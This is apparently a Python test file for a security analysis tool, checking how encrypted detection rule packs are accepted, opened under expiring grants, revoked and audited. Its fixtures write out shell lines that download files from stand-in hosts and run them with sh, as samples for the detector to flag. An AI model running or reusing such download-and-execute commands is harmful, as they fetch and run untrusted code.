#!/usr/bin/env python3
"""Restricted rule packs: accepted, opened under a grant for one analysis, and shut again.

usage: tests/cli/pack.py TOCSIN ENTITLE [NAME...]   (from the root of the source)"""

import hashlib
import json
import os
import pathlib
import signal
import subprocess
import sys
import time

from person import Person, case, main, one_line, readable

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
SAMPLE = ROOT / "examples/rule-pack/sample-pack.yaml"
ENTITLE = pathlib.Path(sys.argv[2]).resolve()
HAS_HOOKS = os.environ.get("HAS_HOOKS") == "true"
DROP = "#!/bin/sh\ncurl -s http://192.0.2.201/a -o /tmp/a\n"
SECRET = b"drop.sample-pack.example"  # stands in the pack and nowhere else


def entitle(person, what, pack="sample-pack", *more, group="group"):
    subprocess.run([ENTITLE, what, person.home, person.folder / group, pack, *map(str, more)], cwd=ROOT, check=True,
                   timeout=60)


def key_line(person, group="group"):
    """As the card of that group would have it."""
    card = person.folder / f"{group}.card"
    if not card.exists():
        home = Person(person.folder)
        home.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / group)}
        home.run("access", "card", "--name", group, "--out", card)
    return next(line for line in card.read_text().splitlines() if line.startswith("key: "))


def keyed(person, source=SAMPLE, group="group"):
    """The pack as that group lends it."""
    return person.file(f"{group}.yaml", pathlib.Path(source).read_text() + key_line(person, group) + "\n")


def seal(person, source=None, out="pack.age", *more):
    recipient = person.run("access", "recipient").out.strip()
    person.run("access", "seal", source or keyed(person), "--to", recipient, "--out", out, *more)
    return person.folder / out


def ready(person, seconds=600):
    """A home that has accepted the sample and may use it."""
    person.run("access", "accept", seal(person))
    entitle(person, "grant", "sample-pack", seconds)
    person.file("drop.sh", DROP)


def refusal(process):
    return json.loads(process.err.splitlines()[-1])["refused"]


def failure(process):
    return json.loads(process.err)["failed"]["because"]


def analyze(person, *words, status=0, **more):
    return person.run("analyze", "--pack", "sample-pack", "--format", "json", *words, status=status, **more)


def big(person):
    """Evidence that takes a while, whatever the machine."""
    line = "curl -s http://198.51.100.%d/%d -o /tmp/f%d && sh /tmp/f%d | sed 's/a/b/' > /var/log/x%d\n"
    folder = person.folder / "big"
    if folder.exists():
        return folder
    folder.mkdir()
    for number in range(120):
        text = "#!/bin/sh\n" + "".join(line % (i % 250, i, i, i, number) for i in range(20000))
        (folder / f"{number}.sh").write_text(text)
    return folder


@case
def a_sealed_pack_is_accepted_and_stays_sealed(person):
    said = json.loads(person.run("access", "accept", seal(person), "--format", "json").out)
    assert (said["pack"], said["version"], said["tlp"], said["rules"]) == ("sample-pack", "1.0", "CLEAR", 2), said
    kept = person.home / "packs/sample-pack.age"
    assert kept.read_bytes() == (person.folder / "pack.age").read_bytes()
    assert kept.stat().st_mode & 0o777 == 0o600
    entry = person.last()
    assert (entry["event"], entry["operation"], entry["class"]) == ("done", "access.accept", "C1"), entry
    assert not any(SECRET in content for content in readable(person.home).values())
    words = person.run("access", "accept", seal(person, out="again.age")).out
    assert "in place of the one before" in words and SECRET.decode() not in words


@case
def a_name_that_one_group_has_is_not_anothers(person):
    person.run("access", "accept", seal(person))
    kept = person.home / "packs/sample-pack.age"
    before = kept.read_bytes()
    theirs = seal(person, keyed(person, group="thieves"), "theirs.age")
    said = refusal(person.run("access", "accept", theirs, "--format", "json", status=2))
    assert (said["reason"], said["rule"]) == ("out_of_scope", "a-packs-name-is-one-groups"), said
    assert kept.read_bytes() == before
    entry = person.last()
    assert (entry["event"], entry["rule"]) == ("refused", "a-packs-name-is-one-groups"), entry
    # What nobody can open any more is nobody's.
    kept.write_bytes(b"age-encryption.org/v1\n")
    assert json.loads(person.run("access", "accept", theirs, "--format", "json").out)["new"] is True
    assert kept.read_bytes() == theirs.read_bytes()


@case
def another_version_is_accepted_and_said(person):
    person.run("access", "accept", seal(person))
    later = person.file("later.yaml", SAMPLE.read_text().replace("version: 1.0", "version: 1.10"))
    later = seal(person, keyed(person, later), "later.age")
    done = person.run("access", "accept", later, "--format", "json")
    said = json.loads(done.out)
    assert (said["new"], said["version"], said["replaced"], said["older"]) == (False, "1.10", "1.0", False), said
    assert "1.10 takes the place of 1.0" in one_line(done.err) and "later" not in done.err, done.err
    done = person.run("access", "accept", later)
    assert "in place of the one before" in done.out and done.err == "", (done.out, done.err)
    middle = person.file("middle.yaml", SAMPLE.read_text().replace("version: 1.0", "version: 1.9"))
    done = person.run("access", "accept", seal(person, keyed(person, middle), "middle.age"))
    assert "in place of the later version 1.10" in done.out, done.out
    assert "1.9 takes the place of 1.10, which is later" in one_line(done.err), done.err


@case
def lines_of_text_are_accepted_too(person):
    person.run("access", "accept", seal(person, None, "pack.age", "--armour"))
    assert (person.home / "packs/sample-pack.age").exists()


@case
def what_is_not_ours_or_was_altered_is_not_kept(person):
    other = Person(person.folder)
    other.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / "other")}
    person.run("access", "recipient")
    theirs = seal(other, None, "theirs.age")
    assert "not sealed to this home" in one_line(person.run("access", "accept", theirs, status=2).err)
    sealed = bytearray(seal(person).read_bytes())
    for place in (60, 300, len(sealed) - 1):
        altered = bytearray(sealed)
        altered[place] ^= 1
        (person.folder / "altered.age").write_bytes(altered)
        one_line(person.run("access", "accept", "altered.age", status=2).err)
    (person.folder / "cut.age").write_bytes(sealed[:-20])
    one_line(person.run("access", "accept", "cut.age", status=2).err)
    person.file("note", "no pack")
    assert "it is no rule pack" in one_line(person.run("access", "accept", seal(person, "note", "note.age"), status=2).err)
    unkeyed = one_line(person.run("access", "accept", seal(person, SAMPLE, "unkeyed.age"), status=2).err)
    assert "the key of the group that lends it" in unkeyed, unkeyed
    person.file("odd.yaml", SAMPLE.read_text() + "key: group+00000000+AAAA\n")
    assert "is no key of the form" in one_line(person.run("access", "accept", seal(person, "odd.yaml", "odd.age"),
                                                          status=2).err)
    one_line(person.run("access", "accept", "note", status=2).err)
    assert not (person.home / "packs").exists() or not list((person.home / "packs").iterdir())


@case
def a_pack_whose_own_cases_fail_is_neither_sealed_nor_accepted(person):
    content = keyed(person).read_text()
    cases = ((content.replace("- 'curl -s http://192.0.2.201/a -o /tmp/a'", "- 'curl -s http://192.0.2.77/a'"),
              "does not fire for this case"),
             (content.replace("- 'ping -c 1 drop.sample-pack.example'", "- 'curl http://192.0.2.201/b'"),
              "fires for a case that is to be quiet"))
    home = Person(person.folder)
    home.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / "lender")}
    for role in ("one", "two"):
        officer = Person(person.folder)
        officer.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / role)}
        officer.run("access", "card", "--name", role, "--out", f"{role}.card")
    home.run("access", "init", "--group", "A", "--officer", "security=one.card", "--officer", "legal=two.card",
             "--out", "lender.card")
    recipient = person.run("access", "recipient").out.strip()
    for text, why in cases:
        assert text != content
        line = next(number for number, (new, old) in enumerate(zip(text.splitlines(), content.splitlines()), 1) if new != old)
        # Whoever seals it for a group is told; sealed by hand, whoever is to accept it.
        bare = person.file("bare.yaml", "".join(one for one in text.splitlines(True) if not one.startswith("key: ")))
        said = one_line(home.run("access", "seal", bare, "--group", "lender.card", "--to", recipient, "--out", "x",
                                 status=2).err)
        assert why in said and f":{line}:" in said, said
        sealed = seal(person, person.file("failing.yaml", text), f"{line}.age")
        said = one_line(person.run("access", "accept", sealed, status=2).err)
        assert why in said and f":{line}:" in said, said
    assert not (person.home / "packs").exists() or not list((person.home / "packs").iterdir())
    assert not (person.folder / "x").exists()


@case
def without_a_grant_it_is_refused_and_nothing_is_analysed(person):
    person.run("access", "accept", seal(person))
    person.file("drop.sh", DROP)
    done = analyze(person, "drop.sh", status=2)
    said = refusal(done)
    assert (said["operation"], said["reason"], said["rule"]) == ("model.pack", "not_entitled", "grant-is-there"), said
    assert said["what_would_change_it"] and said["appeal"] and done.out == ""
    entry = person.last()
    assert (entry["event"], entry["operation"], entry["class"]) == ("refused", "model.pack", "C2"), entry
    plain = one_line(person.run("analyze", "--pack", "sample-pack", "drop.sh", status=2).err)
    assert "refused (not_entitled, rule grant-is-there)" in plain


@case
def under_a_grant_it_finds_what_it_looks_for_and_the_report_names_it(person):
    ready(person)
    done = analyze(person, "drop.sh", status=1)
    report = json.loads(done.out)
    (pack,) = report["tocsin"]["packs"]
    assert (pack["name"], pack["version"], pack["rules"]) == ("sample-pack", "1.0", 2)
    assert pack["sha256"] == hashlib.sha256((person.folder / "group.yaml").read_bytes()).hexdigest()
    assert pack["grant"] == "00112233445566778899aabbccddeeff"
    assert [finding["rule"] for finding in report["findings"]] == ["capability/sample-pack/sample-drop"]
    allowed, opened, ended = person.entries()[-3:]
    assert (allowed["event"], opened["event"], ended["event"]) == ("allowed", "allowed", "done"), (allowed, opened, ended)
    assert allowed["operation"] == opened["operation"] == ended["operation"] == "model.pack"
    assert opened["decision"] == ended["decision"] == allowed["sequence"]
    assert (opened["rule"], opened["object_sha256"]) == ("pack-is-of-the-group", pack["sha256"]), opened
    rules = hashlib.sha256((ROOT / "content/grant.datalog").read_bytes()).hexdigest()
    assert allowed["policy_sha256"] == opened["policy_sha256"] == ended["policy_sha256"] == rules
    assert ended["object_sha256"] == hashlib.sha256(done.out.encode()).hexdigest()
    for form, words in (("text", "by pack sample-pack"), ("markdown", "by pack"), ("html", "by pack")):
        shown = person.run("analyze", "--pack", "sample-pack", "--audience", "analyst", "--format", form, "drop.sh",
                           status=1).out
        assert words in " ".join(shown.split()) and pack["grant"] in shown and pack["sha256"] in shown, form
    person.file("report.json", done.out)
    again = person.run("report", "report.json", "--audience", "analyst").out
    assert pack["grant"] in again and "by pack sample-pack" in " ".join(again.split())
    for words in (("respond", "report.json"), ("ask", "report.json", "what happened")):
        assert "(TLP:" + pack["tlp"] in " ".join(person.run(*words).out.split()), words
        assert json.loads(person.run(*words[:1], "--format", "json", *words[1:]).out)["packs"] == [pack], words
    person.run("access", "audit", "verify")


@case
def without_the_option_the_pack_says_nothing(person):
    ready(person)
    report = json.loads(person.run("analyze", "--format", "json", "drop.sh").out)
    assert report["findings"] == [] and "packs" not in report["tocsin"]


@case
def what_the_pack_holds_is_left_nowhere(person):
    ready(person)
    analyze(person, "drop.sh", status=1)
    for name, content in readable(person.home).items():
        assert SECRET not in content, name


@case
def a_grant_for_another_pack_opens_nothing(person):
    person.run("access", "accept", seal(person))
    entitle(person, "grant", "other-pack", 600)
    person.file("drop.sh", DROP)
    said = refusal(analyze(person, "drop.sh", status=2))
    assert (said["reason"], said["rule"]) == ("out_of_scope", "grant-covers-what-is-asked"), said
    # Under the name that the grant names lies what it does not name.
    (person.home / "packs/sample-pack.age").rename(person.home / "packs/other-pack.age")
    done = person.run("analyze", "--pack", "other-pack", "--format", "json", "drop.sh", status=2)
    said = refusal(done)
    assert (said["reason"], said["rule"], done.out) == ("out_of_scope", "pack-is-what-it-is-called", ""), said
    assert person.last()["event"] == "refused"


@case
def a_grant_of_another_group_opens_nothing(person):
    person.run("access", "accept", seal(person))
    # Whoever founds a group grants themselves what they like, under any name.
    entitle(person, "grant", "sample-pack", 600, group="thieves")
    person.file("drop.sh", DROP)
    done = analyze(person, "drop.sh", status=2)
    said = refusal(done)
    assert (said["reason"], said["rule"], done.out) == ("out_of_scope", "pack-is-of-the-group", ""), said
    assert key_line(person).removeprefix("key: ") in said["detail"]
    entry = person.last()
    assert (entry["event"], entry["operation"], entry["rule"]) == ("refused", "model.pack", "pack-is-of-the-group"), entry
    assert not any(entry["event"] == "done" and entry["operation"] == "model.pack" for entry in person.entries())


@case
def a_pack_that_is_not_there_or_was_altered_is_no_reason_to_go_on_without(person):
    ready(person)
    kept = person.home / "packs/sample-pack.age"
    sealed = bytearray(kept.read_bytes())
    sealed[-1] ^= 1
    kept.write_bytes(sealed)
    done = analyze(person, "drop.sh", status=2)
    assert "cannot be opened" in failure(done) and done.out == ""
    assert person.last()["event"] == "failed"
    kept.unlink()
    done = analyze(person, "drop.sh", status=2)
    assert "has no pack 'sample-pack'" in failure(done) and done.out == ""
    kept.symlink_to(person.folder / "pack.age")
    assert failure(analyze(person, "drop.sh", status=2))


@case
def a_pack_that_does_not_fit_beside_the_rules_is_refused_whole(person):
    ready(person)
    source = SAMPLE.read_text().splitlines()
    at = source.index("rules:") + 1
    one = "\n".join(source[at:at + 26])
    rules = [one.replace("id: sample-drop", f"id: r{number}") for number in range(129)]
    person.file("wide.yaml", "\n".join(source[:at] + rules))
    assert "1 to 128 rules" in one_line(person.run("access", "accept", seal(person, "wide.yaml", "wide.age"), status=2).err)


@case
def a_grant_that_ended_is_refused(person):
    ready(person, 1)
    time.sleep(1.2)
    said = refusal(analyze(person, "drop.sh", status=2))
    assert (said["reason"], said["rule"]) == ("expired", "grant-has-not-ended"), said


def cut(person, change, status=2):
    """An analysis that `change` cuts: (its refusal, how long after)."""
    process = person.start("analyze", "--pack", "sample-pack", "--format", "json", big(person))
    wait_for_child(process, "tocsin-examine")  # which is handed the pack
    time.sleep(0.5)
    assert process.poll() is None, process.communicate()
    change()
    began = time.monotonic()
    out, err = process.communicate(timeout=60)
    took = time.monotonic() - began
    assert process.returncode == status and out == "", (process.returncode, out[:200], err)
    return json.loads(err.splitlines()[-1])["refused"], took


def lent_by(process):
    """The path of what is lent, as root sees it; others of the account cannot even list it."""
    folder = pathlib.Path(f"/proc/{process.pid}/fd")
    if os.geteuid() != 0:
        try:
            list(folder.iterdir())
        except PermissionError:
            return None
        raise AssertionError("others of the account see what the process has open")
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        for file in folder.iterdir():
            try:
                if "tocsin-lent" in os.readlink(file):
                    return file
            except OSError:
                pass
        time.sleep(0.02)
    raise AssertionError("nothing is lent")


@case
def a_revocation_cuts_what_runs_within_a_second(person):
    ready(person)
    said, took = cut(person, lambda: entitle(person, "revoke"))
    assert (said["reason"], said["rule"]) == ("revoked", "grant-is-not-revoked"), said
    assert took < 1, took
    entry = person.last()
    assert (entry["event"], entry["reason"]) == ("refused", "revoked"), entry
    said = refusal(analyze(person, "drop.sh", status=2))
    assert said["reason"] == "revoked"


@case
def the_end_of_a_grant_cuts_what_runs(person):
    big(person)  # which takes its time, and the grant's is short
    ready(person, 12)
    said, took = cut(person, lambda: None)
    assert (said["reason"], said["rule"]) == ("expired", "grant-has-not-ended"), said
    assert took < 13, took


@case
def the_end_of_a_lease_cuts_what_runs(person):
    if not HAS_HOOKS:
        return
    ready(person)
    person.environment["TOCSIN_HOOK_LEASE_MS"] = "2000"
    said, took = cut(person, lambda: None)
    assert (said["reason"], said["rule"]) == ("expired", "lease-is-short"), said
    assert took < 3, took
    assert person.last()["event"] == "refused"


@case
def a_lender_that_is_gone_cuts_what_runs(person):
    ready(person)
    process = person.start("analyze", "--pack", "sample-pack", big(person))
    holder = wait_for_child(process, "tocsin-holder")
    time.sleep(0.5)
    os.kill(holder, signal.SIGKILL)
    out, err = process.communicate(timeout=30)
    assert process.returncode == 2 and out == "" and "lent the pack ended" in err, (process.returncode, err)
    assert person.last()["event"] == "failed"


def wait_for_child(process, name):
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        assert process.poll() is None, process.communicate()
        for stat in pathlib.Path("/proc").glob("[0-9]*/stat"):
            try:
                words = stat.read_text()
            except OSError:
                continue
            command = words[words.index("(") + 1:words.rindex(")")]
            parent = int(words[words.rindex(")") + 2:].split()[1])
            if parent == process.pid and command.startswith(name):
                return int(stat.parent.name)
        time.sleep(0.02)
    raise AssertionError(f"{name} did not start")


@case
def the_lender_is_locked_and_shut_and_what_it_lends_cannot_be_written(person):
    ready(person)
    process = person.start("analyze", "--pack", "sample-pack", big(person))
    holder = wait_for_child(process, "tocsin-holder")
    wait_for_child(process, "tocsin-examine")
    lent = lent_by(process)
    time.sleep(0.5)
    status = dict(line.split(":", 1) for line in pathlib.Path(f"/proc/{holder}/status").read_text().splitlines())
    assert int(status["VmLck"].split()[0]) > 0 or HAS_HOOKS, status["VmLck"]  # a sanitizer locks nothing
    assert status["NoNewPrivs"].strip() == "1" and status["Seccomp"].strip() == "2" and status["Threads"].strip() == "1"
    limits = pathlib.Path(f"/proc/{holder}/limits").read_text()
    assert any(line.startswith("Max core file size") and line.split()[4] == "0" for line in limits.splitlines())
    # Not dumpable: its files in /proc belong to root, whoever it runs as.
    assert os.stat(f"/proc/{holder}/mem").st_uid == 0 and os.stat(f"/proc/{process.pid}/mem").st_uid == 0
    if lent is not None:
        try:
            with open(lent, "r+b") as file:
                file.write(b"x")
                file.flush()
            raise AssertionError("what is lent was written to")
        except PermissionError:
            pass
    process.send_signal(signal.SIGTERM)
    process.communicate(timeout=60)


@case
def a_wish_to_stop_gives_what_is_known_so_far(person):
    ready(person)
    person.file("big.txt", "x")
    process = person.start("analyze", "--pack", "sample-pack", "--format", "json", big(person))
    wait_for_child(process, "tocsin-examine")
    time.sleep(0.7)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    report = json.loads(out)
    assert report["partial"] and report["tocsin"]["packs"][0]["name"] == "sample-pack", err


@case
def without_a_log_a_pack_is_not_opened(person):
    ready(person)
    (person.home / "audit").rename(person.folder / "audit")
    done = analyze(person, "drop.sh", status=2)
    said = refusal(done)
    assert (said["reason"], said["recorded"], done.out) == ("audit_unavailable", False, ""), said


if __name__ == "__main__":
    sys.exit(main(sys.argv[3:]))
